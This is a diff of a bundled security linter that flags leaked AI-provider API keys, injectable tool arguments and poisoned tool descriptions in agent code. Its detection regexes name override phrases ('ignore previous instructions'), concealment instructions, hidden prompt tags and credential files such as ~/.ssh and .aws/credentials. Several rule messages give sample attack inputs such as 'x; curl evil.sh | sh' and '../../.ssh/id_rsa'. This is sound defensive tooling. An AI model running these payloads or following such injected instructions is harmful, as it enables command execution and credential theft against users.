   id: "secret/deepseek-api-key",
   provider: "DeepSeek",
   description: "Finds committed DeepSeek API keys (sk- and 32 hex digits) next to a DeepSeek env var, name or endpoint.",
@@ -29772,7 +29802,7 @@ var deepseekApiKey = providerKeyRule({
 });
 
 // src/families/secret/rules/fireworks-api-key.ts
-var fireworksApiKey = providerKeyRule({
+var fireworks_api_key_default = providerKeyRule({
   id: "secret/fireworks-api-key",
   provider: "Fireworks AI",
   description: "Finds committed Fireworks AI API keys (fw_\u2026, and older 48-character keys next to a Fireworks name or env var).",
@@ -29796,7 +29826,7 @@ var fireworksApiKey = providerKeyRule({
 
 // src/families/secret/rules/google-api-key.ts
 var P = ["AI", "za"].join("");
-var googleApiKey = providerKeyRule({
+var google_api_key_default = providerKeyRule({
   id: "secret/google-api-key",
   provider: "Google",
   description: "Finds committed Google API keys (AIza\u2026), used by Gemini / Google AI Studio and other Google Cloud APIs.",
@@ -29820,7 +29850,7 @@ var googleApiKey = providerKeyRule({
 });
 
 // src/families/secret/rules/groq-api-key.ts
-var groqApiKey = providerKeyRule({
+var groq_api_key_default = providerKeyRule({
   id: "secret/groq-api-key",
   provider: "Groq",
   description: "Finds committed Groq API keys (gsk_\u2026).",
@@ -29835,7 +29865,7 @@ var groqApiKey = providerKeyRule({
 });
 
 // src/families/secret/rules/huggingface-token.ts
-var huggingfaceToken = providerKeyRule({
+var huggingface_token_default = providerKeyRule({
   id: "secret/huggingface-token",
   provider: "Hugging Face",
   description: "Finds committed Hugging Face user access tokens (hf_\u2026) and organization API tokens (api_org_\u2026).",
@@ -29863,7 +29893,7 @@ var huggingfaceToken = providerKeyRule({
 });
 
 // src/families/secret/rules/langsmith-api-key.ts
-var langsmithApiKey = providerKeyRule({
+var langsmith_api_key_default = providerKeyRule({
   id: "secret/langsmith-api-key",
   provider: "LangSmith",
   description: "Finds committed LangSmith (LangChain) API keys: personal access tokens (lsv2_pt_\u2026) and service keys (lsv2_sk_\u2026).",
@@ -29887,7 +29917,7 @@ var langsmithApiKey = providerKeyRule({
 
 // src/families/secret/rules/mistral-api-key.ts
 var MISTRAL = /mistral/i;
-var mistralApiKey = providerKeyRule({
+var mistral_api_key_default = providerKeyRule({
   id: "secret/mistral-api-key",
   provider: "Mistral",
   description: "Finds committed Mistral AI API keys (32 alphanumerics) next to a Mistral env var, client or endpoint.",
@@ -29923,7 +29953,7 @@ api_key = "${fakeKey("mistral", rng).key}"
 // src/families/secret/rules/openai-api-key.ts
 var M = OPENAI_MARKER;
 var typed = (type) => `sk-${type}-(?<body>[A-Za-z0-9_-]{20,200}${M}[A-Za-z0-9_-]{20,200})`;
-var openaiApiKey = providerKeyRule({
+var openai_api_key_default = providerKeyRule({
   id: "secret/openai-api-key",
   provider: "OpenAI",
   description: "Finds committed OpenAI API keys: legacy (sk-\u2026), project (sk-proj-\u2026), service account (sk-svcacct-\u2026) and admin (sk-admin-\u2026) keys.",
@@ -29966,7 +29996,7 @@ var openaiApiKey = providerKeyRule({
 });
 
 // src/families/secret/rules/openrouter-api-key.ts
-var openrouterApiKey = providerKeyRule({
+var openrouter_api_key_default = providerKeyRule({
   id: "secret/openrouter-api-key",
   provider: "OpenRouter",
   description: "Finds committed OpenRouter API keys (sk-or-v1-\u2026).",
@@ -29985,7 +30015,7 @@ var openrouterApiKey = providerKeyRule({
 });
 
 // src/families/secret/rules/perplexity-api-key.ts
-var perplexityApiKey = providerKeyRule({
+var perplexity_api_key_default = providerKeyRule({
   id: "secret/perplexity-api-key",
   provider: "Perplexity",
   description: "Finds committed Perplexity API keys (pplx-\u2026).",
@@ -30004,7 +30034,7 @@ var perplexityApiKey = providerKeyRule({
 });
 
 // src/families/secret/rules/pinecone-api-key.ts
-var pineconeApiKey = providerKeyRule({
+var pinecone_api_key_default = providerKeyRule({
   id: "secret/pinecone-api-key",
   provider: "Pinecone",
   description: "Finds committed Pinecone API keys (pcsk_\u2026).",
@@ -30024,7 +30054,7 @@ var pineconeApiKey = providerKeyRule({
 });
 
 // src/families/secret/rules/replicate-api-token.ts
-var replicateApiToken = providerKeyRule({
+var replicate_api_token_default = providerKeyRule({
   id: "secret/replicate-api-token",
   provider: "Replicate",
   description: "Finds committed Replicate API tokens (r8_\u2026).",
@@ -30197,8 +30227,12 @@ var PRESET_RULES = [
   }
 ];
 function presetRule(spec) {
-  return {
-    meta: secretRuleMeta(spec.id, spec.description, spec.fix, { found: "{{kind}} committed: {{masked}}" }),
+  return defineRule({
+    ...SECRET_RULE_BASICS,
+    id: spec.id,
+    description: spec.description,
+    fix: spec.fix,
+    messages: { found: "{{kind}} committed: {{masked}}" },
     appliesTo: () => true,
     async check(ctx) {
       for (const hit of await secretlintHits(ctx)) {
@@ -30216,12 +30250,12 @@ function presetRule(spec) {
         });
       }
     }
-  };
+  });
 }
 var presetRules = PRESET_RULES.map(presetRule);
 
 // src/families/secret/rules/together-api-key.ts
-var togetherApiKey = providerKeyRule({
+var together_api_key_default = providerKeyRule({
   id: "secret/together-api-key",
   provider: "Together AI",
   description: "Finds committed Together AI API keys (tgp_v1_\u2026, and older 64-hex keys next to a Together name or env var).",
@@ -30256,7 +30290,7 @@ var togetherApiKey = providerKeyRule({
 });
 
 // src/families/secret/rules/xai-api-key.ts
-var xaiApiKey = providerKeyRule({
+var xai_api_key_default = providerKeyRule({
   id: "secret/xai-api-key",
   provider: "xAI",
   description: "Finds committed xAI (Grok) API keys (xai-\u2026).",
@@ -30277,25 +30311,38 @@ var xaiApiKey = providerKeyRule({
 
 // src/families/secret/index.ts
 var providerKeyRules = [
-  openaiApiKey,
-  anthropicApiKey,
-  googleApiKey,
-  huggingfaceToken,
-  groqApiKey,
-  replicateApiToken,
-  perplexityApiKey,
-  langsmithApiKey,
-  pineconeApiKey,
-  xaiApiKey,
-  togetherApiKey,
-  openrouterApiKey,
-  fireworksApiKey,
-  deepseekApiKey,
-  cohereApiKey,
-  mistralApiKey,
-  azureOpenaiApiKey
+  openai_api_key_default,
+  anthropic_api_key_default,
+  google_api_key_default,
+  huggingface_token_default,
+  groq_api_key_default,
+  replicate_api_token_default,
+  perplexity_api_key_default,
+  langsmith_api_key_default,
+  pinecone_api_key_default,
+  xai_api_key_default,
+  together_api_key_default,
+  openrouter_api_key_default,
+  fireworks_api_key_default,
+  deepseek_api_key_default,
+  cohere_api_key_default,
+  mistral_api_key_default,
+  azure_openai_api_key_default
 ];
 var secretRules = [...providerKeyRules, ...presetRules];
+
+// src/families/tool-input/discovery/sinks.ts
+function uniqueSortedSinks(found) {
+  const seen = /* @__PURE__ */ new Set();
+  const out2 = [];
+  for (const s of found) {
+    const key = `${s.path}\0${s.line}\0${s.ruleId}\0${s.sink}`;
+    if (seen.has(key)) continue;
+    seen.add(key);
+    out2.push(s);
+  }
+  return out2.sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0) || a.line - b.line || (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0) || (a.sink < b.sink ? -1 : a.sink > b.sink ? 1 : 0));
+}
 
 // src/parsing/modules.ts
 function parsedModule(project, path2) {
@@ -31863,144 +31910,6 @@ function toolsOfFile(ctx) {
   });
 }
 
-// src/families/tool-input/rules/poisoned-description.ts
-var meta = {
-  id: "tool-input/poisoned-description",
-  family: "tool-input",
-  severity: "error",
-  description: "A tool description or docstring carries instructions aimed at the model (hidden-instruction tags, concealment from the user, requests for secrets or files, invisible Unicode).",
-  fix: "Describe only what the tool does and its parameters; remove instructions to the model, hidden tags and invisible characters.",
-  messages: {
-    poisoned: 'The {{where}} of tool "{{tool}}" carries instructions aimed at the model: {{what}}.'
-  }
-};
-var TAG = /<\s*\/?\s*(important|hidden|system|secret|instructions?|admin|override|sudo|system[-_ ]?prompt|note[-_ ]to[-_ ](?:ai|assistant|model|llm))\s*>|<\|\s*(?:im_start|im_end|system|endoftext)\s*\|>|\[\s*\/?(?:system|inst|hidden|important)\s*\]/gi;
-var CONCEAL = [
-  /\b(?:do\s*n[o']?t|don't|never|must\s+not|should\s+not|shall\s+not)\s+(?:ever\s+)?(?:tell|inform|notify|alert|warn)\s+(?:the\s+)?(?:user|human|operator)s?\b/i,
-  /\b(?:do\s*n[o']?t|don't|never|must\s+not|should\s+not)\s+(?:ever\s+)?(?:mention|reveal|disclose|tell|say)\s+(?:that|this|it|anything|these\s+instructions|the\s+(?:instructions?|sidenote|file|tag))\b/i,
-  /\bwithout\s+(?:telling|informing|notifying|alerting|asking)\s+(?:the\s+)?(?:user|human|operator)/i,
-  /\b(?:hide|conceal)\s+(?:this|it|these|that|the\s+fact)\b[^.\n]{0,30}\bfrom\s+(?:the\s+)?(?:user|human|operator)/i,
-  /\bkeep\s+(?:this|it|these\s+instructions)\s+(?:secret|hidden|private)\b/i,
-  /\b(?:user|human)\s+(?:must|should|need)\s+not\s+(?:know|see|notice|be\s+told)/i
-];
-var OVERRIDE = [
-  /\b(?:ignore|disregard|forget|override)\s+(?:all\s+|any\s+)?(?:of\s+)?(?:the\s+|your\s+)?(?:previous|prior|above|earlier|preceding|other|system|original|existing)\s+(?:instructions?|prompts?|rules|directions|guidelines|messages)/i,
-  /\bnew\s+system\s+prompt\b/i
-];
-var STRONG_FILE = /(~\/\.ssh\b[^\s'"`]*|\.ssh\/[^\s'"`]*|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|~\/\.aws\b[^\s'"`]*|\.aws\/credentials|\/etc\/shadow|\bmcp\.json\b|~\/\.cursor\b[^\s'"`]*|\.git-credentials|\.netrc\b|\.pypirc\b|\.npmrc\b|\.kube\/config|\.docker\/config\.json|\.gnupg\b|\bwallet\.dat\b|\.bash_history)/i;
-var WEAK_FILE = /((?:^|[\s'"`(~/])\.env\b(?:\.[a-z]+)?|\/etc\/passwd)/i;
-var IMPERATIVE = /\b(?:read|cat|open|include|pass|send|provide|attach|upload|copy|append|output|print|share|extract|access|fetch|retrieve|forward|leak|post|exfiltrate|collect|dump|add|load)\b/i;
-var PASS_ON = /\b(?:pass|send|include|upload|post|forward|attach|append|copy|sidenote|leak|exfiltrate)\b|\bcontents?\s+of\b|\bas\s+(?:the\s+)?['"`]?\w+['"`]?\s+(?:parameter|argument|field)|\b(?:before|after)\s+(?:using|calling)\b/i;
-var SECRETS = /\b(?:read|include|pass|send|provide|share|reveal|extract|collect|copy|append|attach|leak|forward|output|print|dump|exfiltrate)\b[^.\n]{0,40}?\b(?:all|any|every|the\s+user'?s|user'?s|their|other|system|environment)\b[^.\n]{0,30}?\b(?:api[\s_-]?keys?|secrets?|credentials?|passwords?|private[\s_-]?keys?|ssh[\s_-]?keys?|access[\s_-]?tokens?|auth(?:entication)?[\s_-]?tokens?|session[\s_-]?(?:tokens?|cookies?)|env(?:ironment)?[\s_-]?var(?:iable)?s)\b/i;
-var OTHER_TOOLS = [
-  /\b(?:when|if|whenever|while)\s+this\s+tool\s+is\s+(?:available|present|loaded|enabled|installed)\b/i,
-  /\b(?:read|include|pass|send|forward|copy|append|extract|leak|collect)\b[^.\n]{0,40}?\b(?:other|another|all\s+other|previous|every)\s+tools?(?:'s|')?\s+(?:outputs?|results?|responses?|data|arguments?|parameters?|inputs?|credentials?|tokens?|descriptions?)\b/i
-];
-var REDIRECT = /\b(?:must|should|always)\s+(?:also\s+)?(?:send|forward|bcc|cc|redirect|copy|post)\b[^.\n]{0,60}?\b(?:to)\b[^.\n]{0,40}?(?:[\w.+-]+@[\w-]+\.[\w.]+|https?:\/\/\S+)/i;
-var INVISIBLE = /[\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]|\uDB40[\uDC00-\uDC7F]/g;
-function snippet(s) {
-  const one = s.replace(/\s+/g, " ").trim();
-  return one.length > 60 ? `${one.slice(0, 57)}...` : one;
-}
-function poisonSigns(text) {
-  const out2 = [];
-  const tags = /* @__PURE__ */ new Set();
-  for (const m of text.matchAll(TAG)) tags.add(m[0].replace(/\s+/g, "").replace("</", "<").toUpperCase());
-  for (const t of tags) out2.push({ kind: "hidden-tag", text: `hidden-instruction tag ${t}` });
-  for (const re of CONCEAL) {
-    const m = re.exec(text);
-    if (m) {
-      out2.push({ kind: "conceal", text: `an instruction to keep something from the user ("${snippet(m[0])}")` });
-      break;
-    }
-  }
-  for (const re of OVERRIDE) {
-    const m = re.exec(text);
-    if (m) {
-      out2.push({ kind: "override", text: `an instruction to override the model's instructions ("${snippet(m[0])}")` });
-      break;
-    }
-  }
-  const files = /* @__PURE__ */ new Set();
-  for (const sentence of text.split(/(?<=[.!?])\s+|\n+/)) {
-    if (!IMPERATIVE.test(sentence)) continue;
-    const strong = STRONG_FILE.exec(sentence);
-    if (strong) files.add(strong[1].trim());
-    const weak = WEAK_FILE.exec(sentence);
-    if (weak && PASS_ON.test(sentence)) files.add(weak[1].trim().replace(/^[('"`]/, ""));
-  }
-  if (files.size) out2.push({ kind: "sensitive-file", text: `a request to read ${[...files].join(", ")}` });
-  const secrets = SECRETS.exec(text);
-  if (secrets) out2.push({ kind: "secrets", text: `a request for secrets ("${snippet(secrets[0])}")` });
-  for (const re of OTHER_TOOLS) {
-    const m = re.exec(text);
-    if (m) {
-      out2.push({ kind: "other-tools", text: `an instruction about other tools ("${snippet(m[0])}")` });
-      break;
-    }
-  }
-  const redirect = REDIRECT.exec(text);
-  if (redirect) out2.push({ kind: "redirect", text: `an instruction to send data elsewhere ("${snippet(redirect[0])}")` });
-  const invisible = [...new Set([...text.matchAll(INVISIBLE)].map((m) => m[0].codePointAt(0)))];
-  if (invisible.length) {
-    const tagChars = [...text].filter((c) => c.codePointAt(0) >= 917536 && c.codePointAt(0) <= 917630);
-    const hidden = tagChars.length ? `, hiding the text "${snippet(tagChars.map((c) => String.fromCharCode(c.codePointAt(0) - 917504)).join(""))}"` : "";
-    const listed = invisible.filter((cp) => cp < 917504 || cp > 917631).map((cp) => `U+${cp.toString(16).toUpperCase().padStart(4, "0")}`);
-    const parts2 = [...new Set(listed)];
-    if (tagChars.length || invisible.some((cp) => cp >= 917504)) parts2.push("Unicode tag characters");
-    out2.push({ kind: "invisible-unicode", text: `invisible or bidirectional Unicode (${parts2.join(", ")})${hidden}` });
-  }
-  return out2;
-}
-var rule = {
-  meta,
-  appliesTo: mayRegisterTools,
-  async check(ctx) {
-    const seen = /* @__PURE__ */ new Set();
-    for (const handler of await toolsOfFile(ctx)) {
-      const texts = [];
-      if (handler.description) texts.push({ ...handler.description, where: "description" });
-      for (const t of handler.modelTexts ?? []) texts.push({ ...t, where: "schema text" });
-      for (const t of texts) {
-        const key = `${t.path}:${t.range.startLine}:${t.range.startColumn}:${t.range.endLine}:${t.range.endColumn}`;
-        if (seen.has(key)) continue;
-        seen.add(key);
-        const signs = poisonSigns(t.text);
-        if (!signs.length) continue;
-        ctx.report({
-          messageId: "poisoned",
-          data: { tool: handler.name, where: t.where, what: signs.map((s) => s.text).join("; ") },
-          range: t.range,
-          ...t.path !== ctx.file.path ? { path: t.path } : {},
-          fingerprintHint: `${handler.framework}:${handler.name}:${t.where}:${signs.map((s) => s.kind).join(",")}`
-        });
-      }
-    }
-  }
-};
-
-// src/families/tool-input/discovery/sinks.ts
-var analyzer = null;
-function registerSinkAnalyzer(fn) {
-  analyzer = fn;
-}
-function hasSinkAnalyzer() {
-  return analyzer !== null;
-}
-async function sinksReachedBy(handler, project) {
-  if (!analyzer) return [];
-  const found = await analyzer(handler, project);
-  const seen = /* @__PURE__ */ new Set();
-  const out2 = [];
-  for (const s of found) {
-    const key = `${s.path}\0${s.line}\0${s.ruleId}\0${s.sink}`;
-    if (seen.has(key)) continue;
-    seen.add(key);
-    out2.push(s);
-  }
-  return out2.sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0) || a.line - b.line || (a.ruleId < b.ruleId ? -1 : a.ruleId > b.ruleId ? 1 : 0) || (a.sink < b.sink ? -1 : a.sink > b.sink ? 1 : 0));
-}
-
 // src/families/tool-input/taint/core.ts
 var MAX_CALL_DEPTH = 4;
 function withStep(t, step, patch = {}) {
@@ -32141,7 +32050,7 @@ function rangeOf(pf, node) {
 function stepAt(pf, node, message) {
   return { path: pf.file.path, range: rangeOf(pf, node), message };
 }
-function snippet2(node, max = 60) {
+function snippet(node, max = 60) {
   const t = node.text.replace(/\s+/g, " ");
   return t.length > max ? `${t.slice(0, max - 1)}\u2026` : t;
 }
@@ -32449,7 +32358,7 @@ var Walker = class {
     this.returnSites.push({ value, scope });
     if (value) {
       const t = await this.eval(value, scope);
-      if (t && !this.optOut) this.returns.push(withStep(t, this.step(st, `returned: ${snippet2(value)}`)));
+      if (t && !this.optOut) this.returns.push(withStep(t, this.step(st, `returned: ${snippet(value)}`)));
     }
     if (!this.optOut) this.exits.push(scope);
     return { scope, terminated: true };
@@ -33160,11 +33069,11 @@ var JsWalker = class _JsWalker extends Walker {
       case "subscript_expression": {
         if (target.type === "subscript_expression") {
           const base = field(target, "object");
-          if (t) scope.set(base.text, withStep(t, this.step(target, `${base.text} holds ${snippet2(value ?? target)}`)));
+          if (t) scope.set(base.text, withStep(t, this.step(target, `${base.text} holds ${snippet(value ?? target)}`)));
           return;
         }
         const name2 = target.text;
-        scope.set(name2, t ? withStep(t, this.step(target, `${name2} = ${snippet2(value ?? target)}`)) : null);
+        scope.set(name2, t ? withStep(t, this.step(target, `${name2} = ${snippet(value ?? target)}`)) : null);
         if (!value) return;
         let v = value;
         while (v.type === "await_expression" || v.type === "as_expression" || v.type === "parenthesized_expression" || v.type === "non_null_expression") v = named(v)[0];
@@ -33175,7 +33084,7 @@ var JsWalker = class _JsWalker extends Walker {
         if (v.type === "call_expression" || v.type === "new_expression") {
           const callArgs2 = named(field(v, "arguments"));
           const arg2 = callArgs2.find((a) => scope.get(a.text));
-          if (arg2) scope.derived.set(name2, { from: arg2.text, via: snippet2(v) });
+          if (arg2) scope.derived.set(name2, { from: arg2.text, via: snippet(v) });
           const sql = jsLiteralString(callArgs2[0]);
           const bound = sql !== null && SQL_TEXT.test(sql) && /(\?|\$\d|:\w+|@\w+)/.test(sql) ? callArgs2.slice(1).find((a) => a.type === "array") : void 0;
           const looked = bound ? named(bound).find((e) => (e.type === "identifier" || e.type === "member_expression") && scope.get(e.text)) : void 0;
@@ -33237,7 +33146,7 @@ var JsWalker = class _JsWalker extends Walker {
             if (SQL_TEXT.test(jsLiteralString(right) ?? "")) t = { ...t, sqlBuilt: true };
             return t;
           },
-          () => snippet2(node)
+          () => snippet(node)
         );
       case "template_string":
         return this.templateTaint(node, scope);
@@ -34211,10 +34120,10 @@ var PyWalker = class _PyWalker extends Walker {
       const name2 = target.text;
       if (target.type === "subscript") {
         const base = field(target, "value");
-        if (t) scope.set(base.text, withStep(t, this.step(target, `${base.text} holds ${snippet2(value ?? target)}`)));
+        if (t) scope.set(base.text, withStep(t, this.step(target, `${base.text} holds ${snippet(value ?? target)}`)));
         return;
       }
-      scope.set(name2, t ? withStep(t, this.step(target, `${name2} = ${snippet2(value ?? target)}`)) : null);
+      scope.set(name2, t ? withStep(t, this.step(target, `${name2} = ${snippet(value ?? target)}`)) : null);
       if (value) {
         if (value.type === "list" && named2(value).some((e) => pyLiteralString(e) === "--")) scope.dashDash.add(name2);
         else scope.dashDash.delete(name2);
@@ -34225,8 +34134,8 @@ var PyWalker = class _PyWalker extends Walker {
           const call = value.type === "await" ? named2(value)[0] : value;
           const arg2 = call?.type === "call" ? named2(field(call, "arguments")).find((a) => scope.get(a.text)) : void 0;
           const recv = call?.type === "call" && field(call, "function")?.type === "attribute" ? field(field(call, "function"), "object") : null;
-          if (arg2) scope.derived.set(name2, { from: arg2.text, via: snippet2(call) });
-          else if (recv && scope.get(recv.text)) scope.derived.set(name2, { from: recv.text, via: snippet2(call) });
+          if (arg2) scope.derived.set(name2, { from: arg2.text, via: snippet(call) });
+          else if (recv && scope.get(recv.text)) scope.derived.set(name2, { from: recv.text, via: snippet(call) });
         }
       }
       return;
@@ -34279,7 +34188,7 @@ var PyWalker = class _PyWalker extends Walker {
             }
             return old ? t : { ...t, prefixFixed: true, hostFixed: true };
           },
-          (left) => `${left.text} ${snippet2(node)}`
+          (left) => `${left.text} ${snippet(node)}`
         );
       case "string":
       case "concatenated_string":
@@ -34837,19 +34746,10 @@ function flowsOfFile(ctx) {
     return out2;
   });
 }
-var RULE_OF_KIND = {
-  path: "tool-input/path-traversal",
-  command: "tool-input/command-injection",
-  argument: "tool-input/argument-injection",
-  code: "tool-input/code-injection",
-  sql: "tool-input/sql-injection",
-  ssrf: "tool-input/ssrf",
-  deserialization: "tool-input/unsafe-deserialization"
-};
-registerSinkAnalyzer(
-  async (handler, project) => (await analyseHandler(handler, project)).map((f) => ({ ruleId: RULE_OF_KIND[f.kind], sink: f.sink, path: f.path, line: f.range.startLine }))
-);
-async function reportFlows(ctx, kind, _meta) {
+async function sinksOfHandler(handler, project) {
+  return (await analyseHandler(handler, project)).map((f) => ({ kind: f.kind, sink: f.sink, path: f.path, line: f.range.startLine }));
+}
+async function reportFlows(ctx, kind) {
   const flows = await flowsOfFile(ctx);
   for (const f of flows) {
     if (f.kind !== kind) continue;
@@ -34867,127 +34767,239 @@ async function reportFlows(ctx, kind, _meta) {
   }
 }
 
-// src/families/tool-input/rules/path-traversal.ts
-var meta2 = {
-  id: "tool-input/path-traversal",
-  family: "tool-input",
-  severity: "error",
-  description: "A model-controlled tool argument reaches a file-system call (open, pathlib, os/shutil, fs.*, git.Repo) without a realpath/resolve + containment check.",
-  fix: "Resolve the path (os.path.realpath / Path.resolve / path.resolve) and check it stays under the allowed root with a separator-aware test (os.path.commonpath, Path.is_relative_to, startsWith(root + path.sep)) before using it.",
-  messages: {
-    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "../../.ssh/id_rsa" or an absolute path can read, overwrite or delete any file the agent process can reach. Resolve the path (os.path.realpath / Path.resolve / path.resolve) and check it stays under the allowed root with a separator-aware test (os.path.commonpath, Path.is_relative_to, startsWith(root + path.sep)) before using it.'
-  }
-};
-var pathTraversal = {
-  meta: meta2,
-  appliesTo: mayRegisterTools,
-  check: (ctx) => reportFlows(ctx, "path", meta2)
-};
-
-// src/families/tool-input/rules/command-injection.ts
-var meta3 = {
-  id: "tool-input/command-injection",
-  family: "tool-input",
-  severity: "error",
-  description: "A model-controlled tool argument reaches a shell command string or chooses the program to run (os.system, subprocess with shell=True or a string, child_process.exec, spawn with shell: true, execa with shell, zx $).",
-  fix: "Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.",
-  messages: {
-    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "x; curl evil.sh | sh" runs arbitrary commands as the agent. Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.'
-  }
-};
-var commandInjection = {
-  meta: meta3,
-  appliesTo: mayRegisterTools,
-  check: (ctx) => reportFlows(ctx, "command", meta3)
-};
+// src/families/tool-input/rules/sink-rule.ts
+function defineSinkRule(definition2) {
+  return defineRule({ ...definition2, appliesTo: mayRegisterTools, check: (ctx) => reportFlows(ctx, definition2.sinkKind) });
+}
 
 // src/families/tool-input/rules/argument-injection.ts
-var meta4 = {
+var argument_injection_default = defineSinkRule({
   id: "tool-input/argument-injection",
-  family: "tool-input",
+  sinkKind: "argument",
   severity: "error",
   description: 'A model-controlled tool argument is placed in an argv array (subprocess, spawn/execFile, execa, GitPython repo.git.*) where a leading "-" turns it into an option, with no "--" before it and no check rejecting a leading "-".',
   fix: 'Put "--" before model-supplied arguments, or reject values starting with "-" (or validate them against an allowlist or a strict pattern).',
   messages: {
     flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "--output=/etc/cron.d/x" or "--upload-pack=sh -c ..." becomes an option of the program and can write files or run commands. Put "--" before model-supplied arguments, or reject values starting with "-" (or validate them against an allowlist or a strict pattern).'
-  }
-};
-var argumentInjection = {
-  meta: meta4,
-  appliesTo: mayRegisterTools,
-  check: (ctx) => reportFlows(ctx, "argument", meta4)
-};
+  },
+  cwe: [88],
+  securitySeverity: 8.1,
+  precision: "high"
+});
 
 // src/families/tool-input/rules/code-injection.ts
-var meta5 = {
+var code_injection_default = defineSinkRule({
   id: "tool-input/code-injection",
-  family: "tool-input",
+  sinkKind: "code",
   severity: "error",
   description: "A model-controlled tool argument is evaluated as code or chooses the code to load (eval, exec, compile, __import__/importlib, new Function, vm.run*, dynamic import()/require()).",
   fix: "Never evaluate tool input: parse data with json / ast.literal_eval, and map names to a fixed table of functions or modules.",
   messages: {
     flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument runs arbitrary Python/JavaScript in the agent process (restricted builtins do not prevent escapes). Never evaluate tool input: parse data with json / ast.literal_eval, and map names to a fixed table of functions or modules.'
+  },
+  cwe: [94],
+  securitySeverity: 9.3,
+  precision: "high"
+});
+
+// src/families/tool-input/rules/command-injection.ts
+var command_injection_default = defineSinkRule({
+  id: "tool-input/command-injection",
+  sinkKind: "command",
+  severity: "error",
+  description: "A model-controlled tool argument reaches a shell command string or chooses the program to run (os.system, subprocess with shell=True or a string, child_process.exec, spawn with shell: true, execa with shell, zx $).",
+  fix: "Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.",
+  messages: {
+    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "x; curl evil.sh | sh" runs arbitrary commands as the agent. Run a fixed program with an argv array and no shell, pick the command from an allowlist, or quote with shlex.quote.'
+  },
+  cwe: [78],
+  securitySeverity: 9.8,
+  precision: "high"
+});
+
+// src/families/tool-input/rules/path-traversal.ts
+var path_traversal_default = defineSinkRule({
+  id: "tool-input/path-traversal",
+  sinkKind: "path",
+  severity: "error",
+  description: "A model-controlled tool argument reaches a file-system call (open, pathlib, os/shutil, fs.*, git.Repo) without a realpath/resolve + containment check.",
+  fix: "Resolve the path (os.path.realpath / Path.resolve / path.resolve) and check it stays under the allowed root with a separator-aware test (os.path.commonpath, Path.is_relative_to, startsWith(root + path.sep)) before using it.",
+  messages: {
+    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "../../.ssh/id_rsa" or an absolute path can read, overwrite or delete any file the agent process can reach. Resolve the path (os.path.realpath / Path.resolve / path.resolve) and check it stays under the allowed root with a separator-aware test (os.path.commonpath, Path.is_relative_to, startsWith(root + path.sep)) before using it.'
+  },
+  cwe: [22],
+  securitySeverity: 7.5,
+  precision: "high"
+});
+
+// src/families/tool-input/rules/poisoned-description.ts
+var definition = {
+  id: "tool-input/poisoned-description",
+  severity: "error",
+  description: "A tool description or docstring carries instructions aimed at the model (hidden-instruction tags, concealment from the user, requests for secrets or files, invisible Unicode).",
+  fix: "Describe only what the tool does and its parameters; remove instructions to the model, hidden tags and invisible characters.",
+  messages: {
+    poisoned: 'The {{where}} of tool "{{tool}}" carries instructions aimed at the model: {{what}}.'
+  },
+  cwe: [1427],
+  securitySeverity: 7.5,
+  precision: "medium"
+};
+var TAG = /<\s*\/?\s*(important|hidden|system|secret|instructions?|admin|override|sudo|system[-_ ]?prompt|note[-_ ]to[-_ ](?:ai|assistant|model|llm))\s*>|<\|\s*(?:im_start|im_end|system|endoftext)\s*\|>|\[\s*\/?(?:system|inst|hidden|important)\s*\]/gi;
+var CONCEAL = [
+  /\b(?:do\s*n[o']?t|don't|never|must\s+not|should\s+not|shall\s+not)\s+(?:ever\s+)?(?:tell|inform|notify|alert|warn)\s+(?:the\s+)?(?:user|human|operator)s?\b/i,
+  /\b(?:do\s*n[o']?t|don't|never|must\s+not|should\s+not)\s+(?:ever\s+)?(?:mention|reveal|disclose|tell|say)\s+(?:that|this|it|anything|these\s+instructions|the\s+(?:instructions?|sidenote|file|tag))\b/i,
+  /\bwithout\s+(?:telling|informing|notifying|alerting|asking)\s+(?:the\s+)?(?:user|human|operator)/i,
+  /\b(?:hide|conceal)\s+(?:this|it|these|that|the\s+fact)\b[^.\n]{0,30}\bfrom\s+(?:the\s+)?(?:user|human|operator)/i,
+  /\bkeep\s+(?:this|it|these\s+instructions)\s+(?:secret|hidden|private)\b/i,
+  /\b(?:user|human)\s+(?:must|should|need)\s+not\s+(?:know|see|notice|be\s+told)/i
+];
+var OVERRIDE = [
+  /\b(?:ignore|disregard|forget|override)\s+(?:all\s+|any\s+)?(?:of\s+)?(?:the\s+|your\s+)?(?:previous|prior|above|earlier|preceding|other|system|original|existing)\s+(?:instructions?|prompts?|rules|directions|guidelines|messages)/i,
+  /\bnew\s+system\s+prompt\b/i
+];
+var STRONG_FILE = /(~\/\.ssh\b[^\s'"`]*|\.ssh\/[^\s'"`]*|\bid_(?:rsa|dsa|ecdsa|ed25519)\b|~\/\.aws\b[^\s'"`]*|\.aws\/credentials|\/etc\/shadow|\bmcp\.json\b|~\/\.cursor\b[^\s'"`]*|\.git-credentials|\.netrc\b|\.pypirc\b|\.npmrc\b|\.kube\/config|\.docker\/config\.json|\.gnupg\b|\bwallet\.dat\b|\.bash_history)/i;
+var WEAK_FILE = /((?:^|[\s'"`(~/])\.env\b(?:\.[a-z]+)?|\/etc\/passwd)/i;
+var IMPERATIVE = /\b(?:read|cat|open|include|pass|send|provide|attach|upload|copy|append|output|print|share|extract|access|fetch|retrieve|forward|leak|post|exfiltrate|collect|dump|add|load)\b/i;
+var PASS_ON = /\b(?:pass|send|include|upload|post|forward|attach|append|copy|sidenote|leak|exfiltrate)\b|\bcontents?\s+of\b|\bas\s+(?:the\s+)?['"`]?\w+['"`]?\s+(?:parameter|argument|field)|\b(?:before|after)\s+(?:using|calling)\b/i;
